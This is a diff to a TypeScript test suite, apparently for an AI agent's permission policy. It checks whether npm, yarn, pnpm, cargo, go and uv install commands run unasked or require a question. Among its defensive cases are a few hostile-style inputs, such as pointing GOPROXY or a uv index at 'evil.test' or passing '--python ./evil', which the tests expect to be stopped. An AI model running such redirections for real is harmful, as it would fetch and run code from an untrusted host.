@@ -112,6 +112,22 @@ describe("sixty commands of every day's work", () => {
 });
 
 describe("an install", () => {
+  test.each([
+    "npm install left-pad",
+    "npm install",
+    "yarn add left-pad",
+    "pnpm add -D left-pad",
+    "npm uninstall left-pad",
+  ])("%s says in its question that undo does not cover node_modules", async (command) => {
+    const made = await world({ files: FILES, contains: true }).decide("exec", { command });
+    expect(made).toMatchObject({
+      decision: "ask",
+      reasons: [
+        expect.stringMatching(/^`.*` is not known to be harmless: it installs .*; undo does not cover node_modules\.$/),
+      ],
+    });
+  });
+
   test.each<[command: string, hosts: readonly string[], isUnasked: boolean]>([
     ["npm ci", ["npm"], true],
     ["npm ci", ["registries"], true],
@@ -140,11 +156,46 @@ describe("an install", () => {
     ["npm update", ["npm"], false],
     ["npm login", ["npm"], false],
     ["npx left-pad", ["npm"], false],
-    ["yarn install", ["registries"], false],
-    ["pnpm install", ["registries"], false],
+    ["yarn", ["npm"], true],
+    ["yarn install --frozen-lockfile", ["npm"], true],
+    ["pnpm i --frozen-lockfile", ["registries"], true],
+    ["yarn install", ["registry.yarnpkg.com"], false],
+    ["yarn add left-pad", ["npm"], false],
+    ["yarn left-pad", ["npm"], false],
+    ["yarn --cwd ../other", ["npm"], false],
+    ["yarn install --modules-folder ../other", ["npm"], false],
+    ["yarn global add left-pad", ["npm"], false],
+    ["yarn npm publish", ["npm"], false],
+    ["pnpm install left-pad", ["npm"], false],
+    ["pnpm install --store-dir ../other", ["npm"], false],
+    ["pnpm install -g", ["npm"], false],
+    ["pnpm publish", ["npm"], false],
+    ["bun install", ["registries"], false],
     ["pip install -r requirements.txt", ["registries"], false],
-    ["cargo fetch", ["registries"], false],
-    ["go mod download", ["registries"], false],
+    ["cargo fetch", ["registries"], true],
+    ["cargo fetch --locked && cargo build --locked", ["crates"], true],
+    ["cargo fetch", ["npm"], false],
+    ["cargo fetch --manifest-path ../other/Cargo.toml", ["crates"], false],
+    ["cargo fetch --config net.offline=false", ["crates"], false],
+    ["cargo add left-pad", ["crates"], false],
+    ["cargo update", ["crates"], false],
+    ["cargo install left-pad", ["crates"], false],
+    ["go mod download", ["registries"], true],
+    ["go mod download && go build ./...", ["go"], true],
+    ["go mod download", ["proxy.golang.org"], false],
+    ["go mod download example.com/left-pad@v1.0.0", ["go"], false],
+    ["GOPROXY=https://evil.test go mod download", ["go"], false],
+    ["go -C ../other mod download", ["go"], false],
+    ["go mod tidy", ["go"], false],
+    ["go mod", ["go"], false],
+    ["uv sync --frozen", ["pypi"], true],
+    ["uv sync", ["registries"], true],
+    ["uv sync", ["crates"], false],
+    ["uv sync --index https://evil.test", ["pypi"], false],
+    ["uv sync --python ./evil", ["pypi"], false],
+    ["uv add left-pad", ["pypi"], false],
+    ["uv lock", ["pypi"], false],
+    ["uv publish", ["pypi"], false],
   ])("%s with %j in the list runs unasked: %s", async (command, hosts, isUnasked) => {
     const made = await world({ files: FILES, contains: true, hosts }).decide("exec", { command });
     expect(made).toMatchObject(isUnasked ? { decision: "allow", isContained: true } : { decision: "ask" });
